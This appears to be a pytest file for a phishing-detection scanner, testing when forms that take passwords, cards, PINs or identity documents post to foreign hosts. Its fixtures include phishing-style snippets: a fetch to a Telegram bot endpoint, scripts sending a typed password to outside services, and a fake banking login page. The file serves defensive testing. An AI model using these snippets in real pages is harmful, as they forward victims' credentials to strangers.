"""Where what is typed goes, and which pages are not acquitted because nothing shows whose they are."""

import pytest

from scamtriage.records.assessment import Verdict
from scamtriage.score.verdict import UNPROVEN
from tests.signals.rows import nats, row

LENT = "brook-meadow-4.github.io"
HONEST = "<h1>Our library</h1><p>Please sign in to see your reading list, your loans and the opening hours of the branch next to you.</p>"
BOT = "<script>fetch('https://api.telegram.org/bot5551234567:AAE4kd93kLmNoPqRsTuVwXyZ0123456789a/sendMessage?chat_id=1')</script>"
FIELDS = {
    "card": "<input name=cardnumber placeholder='Card number'><input name=exp placeholder='MM/YY'><input name=cvv placeholder=CVV>",
    "code": "<input name=otp placeholder='Code from your authenticator' autocomplete=one-time-code>",
    "pin": "<input type=password name=pin placeholder='Your PIN'>",
    "new pin": "<input type=password name=pin placeholder='Choose a PIN'>",
    "secret": "<input name=user placeholder=Email><input type=password name=pw placeholder=Password>",
    "message": "<input name=name placeholder='Full name'><input type=email name=email><textarea name=message></textarea>",
    "document": "<input name=name placeholder='Full name'><input type=file name=cv>",
}


def form(fields: str, action: str) -> str:
    return f'{HONEST}<form method=post action="{action}">{FIELDS[fields]}<button>Send</button></form>'


@pytest.mark.parametrize(
    ("fields", "action", "more", "away"),
    [
        ("secret", "", BOT, True),
        ("secret", "https://formsubmit.co/a1b2", "", True),
        ("secret", "https://script.google.com/macros/s/x/exec", "", True),
        ("secret", "mailto:someone@example.com", "", True),
        ("secret", "/login", "", False),
        ("secret", "https://login.microsoftonline.com/common", "", False),
        ("message", "", BOT, False),
        ("message", "https://formspree.io/f/abc", "", False),
        ("document", "https://formspree.io/f/abc", "", False),
    ],
)
def test_words_acquit_of_nothing_where_secrets_go_to_a_stranger(fields: str, action: str, more: str, *, away: bool) -> None:
    judged = row(LENT, form(fields, action) + more, age_days=-1)
    found = nats(judged)
    assert ("http-secrets-away" in found) is away
    assert (min(found.get("page-wording", 0.0), found.get("page-ways", 0.0)) >= 0.0) is away


@pytest.mark.parametrize(("age_days", "away"), [(20, True), (400, False)])
def test_a_firm_of_some_age_may_rent_its_log_in(age_days: int, *, away: bool) -> None:
    found = nats(row("meadowbrook-yoga.com", form("secret", "https://members.studio-desk.net/login"), age_days=age_days))
    assert ("http-secrets-away" in found) is away and "http-form-foreign-post" in found


@pytest.mark.parametrize(
    ("host", "action", "posted"),
    [
        ("portal-sinarlaut.com", "https://auth.sinarlaut.co.id/login", False),
        ("sinarlaut-staff.vercel.app", "https://auth.sinarlaut.co.id/login", False),
        ("portal-sinarlaut.com", "https://auth.sinarmerah.co.id/login", True),
        ("portal-sinarlaut.com", "https://portal.web.app/login", True),
        ("portal-sinarlaut.com", "https://auth.portal.net/login", True),
        ("sinarlaut-staff.vercel.app", "https://sinarlaut-staff.web.app/login", True),
        ("my-vercel-club.web.app", "https://collect-77.vercel.app/x", True),
        ("sign-in-docs.web.app", "https://docs.google.com/forms/d/e/x/formResponse", True),
    ],
)
def test_a_host_of_the_same_name_is_the_firm_s_own(host: str, action: str, *, posted: bool) -> None:
    found = nats(row(host, form("secret", action), age_days=-1 if host.endswith(".app") else 60))
    assert [signal in found for signal in ("http-form-foreign-post", "http-secrets-away")] == [posted, posted]


@pytest.mark.parametrize(("shown", "away"), [("", True), ("<p>8 Duxton Road, Singapore 089480. Tel +65 6221 1234</p>", False)])
def test_a_young_firm_that_shows_where_it_is_may_rent_its_log_in(shown: str, *, away: bool) -> None:
    page = form("secret", "https://members.studio-desk.net/login") + shown
    found = nats(row("meadowbrook-yoga.com", page, age_days=30))
    assert ("http-secrets-away" in found) is away and "http-form-foreign-post" in found
    assert "http-secrets-away" in nats(row("meadowbrook-yoga.com", page + BOT, age_days=30))


@pytest.mark.parametrize(
    ("host", "age_days", "html", "unproven"),
    [
        (LENT, -1, form("secret", "/login"), True),
        (LENT, -1, "<title>Welcome</title><img src=offer.gif><p>Click the picture to go on</p>", True),
        (LENT, -1, form("message", "/send"), True),
        (LENT, -1, HONEST * 3 + form("message", "/send"), False),
        (LENT, -1, form("secret", "/login") + "<p>12 Jalan Ampang, 50450 Kuala Lumpur</p>", False),
        ("meadowbrook-library.org", 900, form("secret", "/login"), False),
        ("meadowbrook-library.org", 100, form("secret", "/login"), True),
        ("meadowbrook-library.org", 100, HONEST * 12 + form("secret", "/login"), False),
    ],
)
def test_who_takes_a_secret_and_shows_no_owner_is_not_acquitted(host: str, age_days: int, html: str, *, unproven: bool) -> None:
    judged = row(host, html, age_days=age_days)
    if unproven:
        assert "page-unproven" in nats(judged) and judged.verdict.rank >= Verdict.NO_FINDING.rank
        assert judged.log_odds >= -0.75 or UNPROVEN in judged.held_back
    else:
        assert UNPROVEN not in judged.held_back and judged.verdict is Verdict.LIKELY_BENIGN


STREET = "<p>12 Jalan Ampang, 50450 Kuala Lumpur</p>"


@pytest.mark.parametrize(
    ("host", "age_days", "fields", "shown", "fires"),
    [
        (LENT, -1, "card", "", True),
        ("meadowbrook-pay.com", 100, "card", "", False),
        (LENT, -1, "card", STREET, False),
        (LENT, -1, "code", "", False),
        (LENT, -1, "pin", "", True),
        (LENT, -1, "new pin", "", False),
        (LENT, -1, "secret", "", False),
    ],
)
def test_who_takes_a_card_says_who_he_is(host: str, age_days: int, fields: str, shown: str, *, fires: bool) -> None:
    found = nats(row(host, form(fields, "/pay") + shown, age_days=age_days))
    assert ("content-unowned-secrets" in found) is fires


@pytest.mark.parametrize(("fields", "fires"), [("pin", True), ("new pin", False)])
def test_a_pin_may_be_chosen_outside_a_form(fields: str, *, fires: bool) -> None:
    page = form(fields, "/pay").replace("<form", "<div").replace("</form", "</div")
    assert ("content-unowned-secrets" in nats(row(LENT, page, age_days=-1))) is fires
    both = form("new pin", "/pay") + FIELDS["pin"]
    assert "content-unowned-secrets" in nats(row(LENT, both, age_days=-1))


LOG_IN = f"<form id=login>{FIELDS['secret'].replace('name=pw', 'name=pw id=pw')}<button>Log in</button></form>"
AWAY = (
    "https://k3x9.supabase.co/auth/v1/token",
    "https://a1b2c3.execute-api.ap-southeast-1.amazonaws.com/prod/login",
    "https://identitytoolkit.googleapis.com/v1/accounts:signInWithPassword",
    "https://members.studio-desk.net/api/login",
)


def asked_by_script(address: str) -> str:
    return f"{LOG_IN}<script>login.onsubmit = () => fetch('{address}', {{body: JSON.stringify({{password: pw.value}})}})</script>"


@pytest.mark.parametrize("age_days", [20, 400, 4_000])
@pytest.mark.parametrize("address", AWAY)
def test_an_application_that_asks_a_host_under_another_name_is_not_held_against_it(address: str, age_days: int) -> None:
    judged = row("meadowbrook-yoga.com", HONEST + asked_by_script(address), age_days=age_days)
    assert ("http-form-foreign-post" in nats(judged), "http-secrets-away" in nats(judged)) == (False, False)
    assert judged.verdict.rank < Verdict.SUSPICIOUS.rank
    there = row("meadowbrook-yoga.com", HONEST + LOG_IN.replace("id=login", f"action='{address}'"), age_days=age_days)
    assert "http-form-foreign-post" in nats(there) or "googleapis" in address  # a form in the markup is


@pytest.mark.parametrize(
    ("page", "address"),
    [
        ("<title>Maybank2u</title><h1>Maybank2u</h1><p>Log in to online banking</p>", AWAY[3]),
        (HONEST, "https://formspree.io/f/abc"),
        (HONEST, "https://script.google.com/macros/s/x/exec"),
    ],
)
def test_what_a_script_sends_away_counts_in_anothers_name_and_where_anybody_has_forms(page: str, address: str) -> None:
    found = nats(row("secure-update-77.com", page + asked_by_script(address), age_days=20))
    assert "http-form-foreign-post" in found and "http-secrets-away" in found


@pytest.mark.parametrize(
    ("field", "posted"),
    [
        ("<label>แนบเรซูเม่ (PDF หรือ Word) <input type=file name=f></label>", False),
        ("<label>Your CV <input type=file name=upload></label>", False),
        ("<input type=file name=resume>", False),
        ("<label>Đơn xin việc <input type=file name=f></label>", False),
        ("<label>Artwork, 300 dpi <input type=file name=f></label>", False),
        ("<label>CV and passport <input type=file name=f></label>", True),
        ("<label>Resume<input type=file name=ktp></label>", True),
        ("<label>Both sides <input type=file name=f></label>", True),
        ("<input type=file name=f>", True),
        ("<label>Your CV <input type=file name=f></label><label>Passport number <input name=passport></label>", True),
    ],
)
def test_only_a_file_that_may_prove_who_somebody_is_counts_as_a_document(field: str, *, posted: bool) -> None:
    name = "<input name=name placeholder='Full name'>"
    html = f'{HONEST}<form method=post action="https://formspree.io/f/abc">{name}{field}<button>Send</button></form>'
    assert ("http-form-foreign-post" in nats(row(LENT, html, age_days=-1))) is posted
